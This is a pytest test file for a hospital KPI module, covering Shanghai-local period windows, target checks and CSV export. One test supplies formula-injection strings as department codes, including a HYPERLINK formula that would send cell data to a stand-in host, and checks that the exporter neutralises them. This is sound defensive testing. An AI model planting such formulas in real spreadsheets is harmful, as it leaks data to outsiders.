"""KPI arithmetic: hospital-local periods, values, targets and whether they are met."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from metrics.kpi import (
    KPI_KEYS,
    KPIS,
    Period,
    evaluate,
    evaluate_all,
    period_window,
    rolling_window,
    to_csv,
)
from metrics.settings import DOMAIN_TARGETS, Settings

TZ = "Asia/Shanghai"
BY_KEY = {k.key: k for k in KPIS}


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def test_a_day_is_midnight_to_midnight_in_shanghai() -> None:
    w = period_window(Period.DAY, date(2026, 11, 23), TZ)
    assert w.start.astimezone(UTC) == utc(2026, 11, 22, 16)
    assert w.end.astimezone(UTC) == utc(2026, 11, 23, 16)
    # 23:59 UTC on the 22nd is 07:59 on the 23rd in Shanghai: inside the 23rd.
    assert w.start <= utc(2026, 11, 22, 23, 59) < w.end
    assert not (w.start <= utc(2026, 11, 22, 15, 59) < w.end)


def test_a_week_starts_on_monday_whatever_day_is_asked() -> None:
    for day in (date(2026, 11, 23), date(2026, 11, 26), date(2026, 11, 29)):
        w = period_window(Period.WEEK, day, TZ)
        assert w.start.date() == date(2026, 11, 23)  # a Monday
        assert w.end.date() == date(2026, 11, 30)


def test_months_roll_over_the_year_and_february() -> None:
    dec = period_window(Period.MONTH, date(2026, 12, 31), TZ)
    assert (dec.start.date(), dec.end.date()) == (date(2026, 12, 1), date(2027, 1, 1))
    feb = period_window(Period.MONTH, date(2028, 2, 10), TZ)
    assert (feb.start.date(), feb.end.date()) == (date(2028, 2, 1), date(2028, 3, 1))
    assert feb.start.astimezone(UTC) == utc(2028, 1, 31, 16)


def test_the_rolling_alert_window_ends_the_offset_before_today_local() -> None:
    # 2026-11-23 17:00 UTC is already the 24th in Shanghai.
    w = rolling_window(utc(2026, 11, 23, 17), days=7, offset_days=3, tz=TZ)
    assert (w.start.date(), w.end.date()) == (date(2026, 11, 14), date(2026, 11, 21))


def test_a_floor_target_is_met_at_exactly_the_target() -> None:
    r = evaluate(BY_KEY["followup_inpatient_rate"], 19, 20, 0.95)
    assert r.value == pytest.approx(0.95) and r.met is True
    assert evaluate(BY_KEY["followup_inpatient_rate"], 18, 20, 0.95).met is False


def test_a_ceiling_target_is_met_below_it() -> None:
    kpi = BY_KEY["registration_dissatisfaction_rate"]
    assert evaluate(kpi, 1, 50, 0.02).met is True
    assert evaluate(kpi, 2, 50, 0.02).met is False


def test_an_empty_cohort_has_no_value_and_no_verdict() -> None:
    r = evaluate(BY_KEY["satisfaction_rate"], 0, 0, 0.95)
    assert r.value is None and r.met is None and r.target == 0.95


def test_a_kpi_without_target_is_measured_but_not_judged() -> None:
    r = evaluate(BY_KEY["no_show_rate"], 3, 40, None)
    assert r.value == pytest.approx(0.075) and r.met is None


def test_every_listed_kpi_is_reported_with_domain_targets() -> None:
    results = evaluate_all({"followup_outpatient_rate": (1, 4)}, Settings().effective_targets())
    assert [r.key for r in results] == list(KPI_KEYS)
    out = {r.key: r for r in results}
    assert out["followup_outpatient_rate"].met is True  # 25% >= 20%
    assert out["followup_first_visit_rate"].target == 0.60
    assert out["complaint_handling_satisfaction_rate"].target == 0.98
    assert set(DOMAIN_TARGETS) == set(KPI_KEYS)


def test_targets_are_overridable_one_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("METRICS_KPI_TARGETS", '{"satisfaction_rate": 0.9}')
    targets = Settings().effective_targets()
    assert targets["satisfaction_rate"] == 0.9
    assert targets["followup_inpatient_rate"] == 0.95


def test_the_csv_has_one_line_per_kpi_with_chinese_titles() -> None:
    window = period_window(Period.MONTH, date(2026, 11, 1), TZ)
    results = evaluate_all({"followup_inpatient_rate": (19, 20)}, DOMAIN_TARGETS)
    text = to_csv(("month", window, "ALL", r) for r in results)
    lines = text.splitlines()
    assert len(lines) == 1 + len(KPI_KEYS)
    assert lines[1].split(",")[3:5] == ["ALL", "followup_inpatient_rate"]
    assert "出院患者回访率" in lines[1] and lines[1].endswith(",0.9500,0.9500,>=,yes")


@pytest.mark.parametrize(
    "department", ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1", "@SUM(A1)"]
)
def test_a_department_code_is_never_a_formula_in_the_csv(department: str) -> None:
    # Codes come from hospital systems and from staff opening complaints.
    window = period_window(Period.MONTH, date(2026, 11, 1), TZ)
    results = evaluate_all({}, DOMAIN_TARGETS)
    rows = list(csv.reader(io.StringIO(to_csv(("month", window, department, r) for r in results))))
    assert {row[3] for row in rows[1:]} == {"'" + department}


# Which way each KPI is good, written out from DOMAIN.md independently of the catalog: a
# rate of things done is a floor (">= target"); a rate of things going wrong is a ceiling.
CEILINGS = {"registration_dissatisfaction_rate", "no_show_rate"}
CEILINGS |= {"guidance_dissatisfaction_rate"}


def test_every_kpi_points_the_way_the_manuals_mean() -> None:
    """A dissatisfaction or no-show rate meets its target by staying under it; every other
    rate by reaching it. Turned around, a hospital missing its 2% limit would show green."""
    from metrics.kpi import KPIS, evaluate

    for k in KPIS:
        ceiling = k.key in CEILINGS
        assert k.minimum is not ceiling, k.key
        assert evaluate(k, 1, 100, 0.02).met is ceiling, k.key  # 1% against 2%
        assert evaluate(k, 99, 100, 0.95).met is not ceiling, k.key  # 99% against 95%
